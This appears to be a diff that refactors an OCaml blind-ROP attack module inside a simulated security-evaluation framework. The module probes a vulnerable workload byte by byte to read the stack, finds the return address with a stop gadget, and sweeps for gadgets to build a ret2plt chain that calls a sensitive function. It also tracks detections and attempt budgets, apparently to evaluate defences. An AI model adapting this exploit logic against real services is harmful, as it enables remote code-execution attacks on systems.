@@ -1,57 +1,33 @@
 open R2c_machine
 
-let name = "blind-rop"
+let output_lines t =
+  String.fold_left (fun acc c -> if c = '\n' then acc + 1 else acc) 0 (Process.output t.Oracle.proc)
 
-let marker = R2c_workloads.Vulnapp.marker
-
-let succeeded t = List.exists (fun (rdi, _) -> rdi = marker) (Oracle.sensitive_log t)
-
-let finish ?(notes = []) ~attempts t =
-  Report.make ~attack:name ~success:(succeeded t) ~detected:(Oracle.detected t)
-    ~crashes:(Oracle.crashes t) ~attempts ~notes ()
-
-type probe_result = Survived of int  (** output lines *) | Crashed_probe | Gone
+type probe_result = Survived | Crashed_probe | Gone
 
 (* One probe: respawn, reach the serving state, deliver the payload, run to
-   the end; report survival and the number of response lines the attacker
-   saw. *)
+   the end; report survival. The response lines the attacker saw stay in
+   the process output. *)
 let probe t payload =
-  if t.Oracle.dead && not (Oracle.restart t) then Gone
-  else
-    match Oracle.to_break t with
-    | `Done _ -> Gone
-    | `Break -> (
-        Oracle.send t payload;
-        match Oracle.resume_to_end t with
-        | Process.Exited _ ->
-            let lines =
-              String.fold_left
-                (fun acc c -> if c = '\n' then acc + 1 else acc)
-                0
-                (Process.output t.Oracle.proc)
-            in
-            Survived lines
-        | Process.Crashed _ | Process.Timeout -> Crashed_probe)
-
-let plt_addr_of name_wanted =
-  let rec idx i = function
-    | [] -> 0
-    | n :: tl -> if n = name_wanted then i else idx (i + 1) tl
-  in
-  Addr.text_base + (16 * idx 0 Image.builtin_names)
+  if t.Oracle.dead then Oracle.restart t;
+  match Oracle.to_break t with
+  | `Done _ -> Gone
+  | `Break -> (
+      Oracle.send t payload;
+      match Oracle.resume_to_end t with
+      | Process.Exited _ -> Survived
+      | Process.Crashed _ | Process.Timeout -> Crashed_probe)
 
 let run ?(probe_budget = 20_000) ?(monitor_threshold = 1) ~target:t () =
-  let notes = ref [] in
-  let note fmt = Printf.ksprintf (fun s -> notes := s :: !notes) fmt in
-  let attempts = ref 0 in
+  let tl = Report.tally t in
   let monitor_tripped () = Oracle.detections t >= monitor_threshold in
   let abort why =
-    note "%s" why;
-    finish ~attempts:!attempts ~notes:(List.rev !notes) t
+    Report.note tl "%s" why;
+    Report.of_tally tl
   in
-  let budget_left () = !attempts < probe_budget && not (monitor_tripped ()) in
+  let budget_left () = tl.tries < probe_budget && not (monitor_tripped ()) in
   let try_probe payload =
-    incr attempts;
+    Report.attempt tl;
     probe t payload
   in
   (* Bitau et al.'s stack reading: extend the overflow one byte at a time,
@@ -66,7 +42,7 @@ let run ?(probe_budget = 20_000) ?(monitor_threshold = 1) ~target:t () =
       else if not (budget_left ()) then None
       else
         match try_probe (Buffer.contents filler ^ String.make 1 (Char.chr g)) with
-        | Survived _ -> Some (Char.chr g)
+        | Survived -> Some (Char.chr g)
         | Crashed_probe -> guess (g + 1)
         | Gone -> None
     in
@@ -79,7 +55,7 @@ let run ?(probe_budget = 20_000) ?(monitor_threshold = 1) ~target:t () =
           if not (budget_left ()) then None
           else
             match try_probe (Buffer.contents filler ^ String.make 1 (Char.chr g)) with
-            | Survived _ -> Some (Char.chr g)
+            | Survived -> Some (Char.chr g)
             | Crashed_probe -> preferred tl
             | Gone -> None)
     in
@@ -87,28 +63,16 @@ let run ?(probe_budget = 20_000) ?(monitor_threshold = 1) ~target:t () =
   in
   (* Stop-gadget test at a word boundary: a ret into a harmless PLT entry
      produces one extra response line iff the word is the return address. *)
-  let stop_plt = plt_addr_of "print_int" in
+  let stop_plt = Payload.plt_addr_of "print_int" in
   let ra_here () =
     let base = Buffer.contents filler in
     match try_probe (base ^ Payload.le64 stop_plt) with
-    | Survived _ | Gone -> false
+    | Survived | Gone -> false
     | Crashed_probe -> (
-        let with_stop =
-          String.fold_left
-            (fun acc c -> if c = '\n' then acc + 1 else acc)
-            0
-            (Process.output t.Oracle.proc)
-        in
+        let with_stop = output_lines t in
         match try_probe (base ^ Payload.fill 8) with
-        | Survived _ | Gone -> false
-        | Crashed_probe ->
-            let with_garbage =
-              String.fold_left
-                (fun acc c -> if c = '\n' then acc + 1 else acc)
-                0
-                (Process.output t.Oracle.proc)
-            in
-            with_stop > with_garbage)
+        | Survived | Gone -> false
+        | Crashed_probe -> with_stop > output_lines t)
   in
   let ra_found = ref false in
   while !result = None && not !ra_found do
@@ -131,10 +95,10 @@ let run ?(probe_budget = 20_000) ?(monitor_threshold = 1) ~target:t () =
   match !result with
   | Some r -> r
   | None ->
-  note "return address at buffer+%d (stack reading)" (Buffer.length filler);
+  Report.note tl "return address at buffer+%d (stack reading)" (Buffer.length filler);
   (* Gadget sweep: ret2plt chain with brute-forced first gadget. The PLT of
      a non-PIE binary is architectural knowledge. *)
-  let sensitive = plt_addr_of "sensitive" in
+  let sensitive = Payload.plt_addr_of "sensitive" in
   let start = Addr.text_base + (16 * List.length Image.builtin_names) in
   let base = Buffer.contents filler in
   let rec sweep addr =
@@ -143,11 +107,13 @@ let run ?(probe_budget = 20_000) ?(monitor_threshold = 1) ~target:t () =
         (if monitor_tripped () then "monitoring response during gadget sweep"
          else "probe budget exhausted")
     else begin
-      let chain = Payload.le64 addr ^ Payload.le64 marker ^ Payload.le64 sensitive in
+      let chain =
+        Payload.le64 addr ^ Payload.le64 R2c_workloads.Vulnapp.marker ^ Payload.le64 sensitive
+      in
       match try_probe (base ^ chain) with
       | Gone -> abort "worker gone"
-      | Survived _ | Crashed_probe ->
-          if succeeded t then finish ~attempts:!attempts ~notes:(List.rev !notes) t
+      | Survived | Crashed_probe ->
+          if Oracle.compromised t then Report.of_tally tl
           else sweep (addr + 1)
     end
   in
